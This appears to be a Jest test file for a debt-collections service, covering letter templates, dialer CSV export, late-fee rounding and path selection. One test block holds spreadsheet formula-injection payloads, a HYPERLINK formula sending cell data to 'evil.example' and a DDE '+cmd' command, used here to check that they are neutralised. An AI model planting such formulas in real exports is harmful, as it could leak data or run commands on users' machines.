import { CollectionsPath, CollectionsStep, DEFAULT_PATH_KEY } from '../collections.entity';
import { pathBook } from '../collections-path.service';
import { percentOf } from '../collections-run.service';
import { csvCell, csvField, dialerCsv, dialerRow, parseCsvRecord, renderTemplate, unknownPlaceholders } from '../collections-text';

const facts = { name: 'Ann Lee', accountNumber: 'A-1', phone: '+1 555 0100', pastDue: 12345, feesPastDue: 0, daysPastDue: 17 };

describe('templates', () => {
  it('fills in the four placeholders, with or without spaces inside the braces', () => {
    expect(renderTemplate('Dear {{name}}, {{ pastDue }} on {{accountNumber}} is {{daysPastDue}} days late.', facts)).toBe(
      'Dear Ann Lee, 123.45 on A-1 is 17 days late.',
    );
  });

  it('names the placeholders it does not know, once each', () => {
    expect(unknownPlaceholders('Hi {{name}} {{balance}} {{ balance }} {{}}')).toEqual(['balance', '']);
    expect(unknownPlaceholders('{{name}}{{accountNumber}}{{pastDue}}{{daysPastDue}}')).toEqual([]);
  });
});

describe('dialer CSV', () => {
  it('quotes only the fields that need it, doubling quotes', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('Lee, Ann')).toBe('"Lee, Ann"');
    expect(csvField('The "Big" Shop')).toBe('"The ""Big"" Shop"');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(' padded')).toBe('" padded"');
  });

  it('writes the header and one CRLF-ended line per row; a missing phone is an empty field', () => {
    const rows = [dialerRow(facts), dialerRow({ ...facts, name: 'Lee, "Rick"', phone: null, pastDue: 5, daysPastDue: 7 })];
    expect(dialerCsv(rows)).toBe(
      'accountNumber,name,phone,pastDue,daysPastDue\r\nA-1,Ann Lee,+1 555 0100,123.45,17\r\nA-1,"Lee, ""Rick""",,0.05,7\r\n',
    );
    expect(dialerCsv([])).toBe('accountNumber,name,phone,pastDue,daysPastDue\r\n');
  });
});

describe('dialer CSV opened in a spreadsheet', () => {
  it('prefixes a cell a spreadsheet would run as a formula with a single quote, quoting it when needed', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?x="&A1,"Click")')).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    expect(csvCell("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvCell('\t=1+1')).toBe("'\t=1+1");
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvCell('  =1+1')).toBe("'  =1+1");
  });

  it('leaves ordinary names, amounts and international phone numbers as they are', () => {
    expect(csvCell('Ann Lee')).toBe('Ann Lee');
    expect(csvCell('Smith-Jones = partner')).toBe('Smith-Jones = partner');
    expect(csvCell('123.45')).toBe('123.45');
    expect(csvCell('+44 (20) 7946-0000')).toBe('+44 (20) 7946-0000');
    expect(csvCell("'=already neutralised")).toBe("'=already neutralised");
  });

  it('writes a dangerous name neutralised, also from a row stored before cells were neutralised', () => {
    const row = dialerRow({ ...facts, name: '=HYPERLINK("http://x","y")' });
    expect(row).toBe(`A-1,"'=HYPERLINK(""http://x"",""y"")",+1 555 0100,123.45,17`);
    const storedBefore = 'A-2,"=HYPERLINK(""http://x"",""y"")",@1,5.00,3';
    expect(dialerCsv([row, storedBefore]).split('\r\n').slice(1, 3)).toEqual([row, `A-2,"'=HYPERLINK(""http://x"",""y"")",'@1,5.00,3`]);
  });

  it('reads back the fields csvField writes', () => {
    const fields = ['plain', 'Lee, Ann', 'The "Big" Shop', 'two\r\nlines', '', ' padded'];
    expect(parseCsvRecord(fields.map(csvField).join(','))).toEqual(fields);
  });
});

describe('late fee percentage', () => {
  it('rounds half-up to cents', () => {
    expect(percentOf(4095, 5_000_000)).toBe(205); // 5% of 40.95 = 2.0475
    expect(percentOf(1000, 1_500_000)).toBe(15);
    expect(percentOf(1, 10_000_000)).toBe(0);
    expect(percentOf(5, 10_000_000)).toBe(1); // 0.5 cent rounds up
  });
});

describe('which path an account follows', () => {
  const path = (id: string, segments: string[], opts: { isDefault?: boolean; active?: boolean } = {}) =>
    Object.assign(new CollectionsPath(), {
      id,
      name: `P${id}`,
      segments,
      defaultKey: opts.isDefault ? DEFAULT_PATH_KEY : null,
      active: opts.active ?? true,
    });
  const step = (id: string, pathId: string, position: number) => Object.assign(new CollectionsStep(), { id, pathId, position });
  const book = pathBook(
    [path('1', [], { isDefault: true }), path('4', ['VIP']), path('2', ['VIP', 'HIGH_RISK']), path('3', ['GOV'], { active: false })],
    [step('12', '2', 2), step('11', '2', 1)],
  );

  it('takes the explicit assignment, else the first active path listing the segment, else the default', () => {
    expect(book.pathFor({ segment: 'VIP', collectionsPathId: '4' })?.id).toBe('4');
    expect(book.pathFor({ segment: 'VIP', collectionsPathId: null })?.id).toBe('2');
    expect(book.pathFor({ segment: 'RESIDENTIAL', collectionsPathId: null })?.id).toBe('1');
  });

  it('passes over inactive paths, assigned or listing the segment', () => {
    expect(book.pathFor({ segment: 'GOV', collectionsPathId: null })?.id).toBe('1');
    expect(book.pathFor({ segment: 'VIP', collectionsPathId: '3' })?.id).toBe('2');
  });

  it('has no path without a default', () => {
    expect(pathBook([path('2', ['VIP'])], []).pathFor({ segment: 'X', collectionsPathId: null })).toBeNull();
  });

  it('keeps steps in position order', () => {
    expect(book.steps.get('2')?.map((s) => s.id)).toEqual(['11', '12']);
  });
});
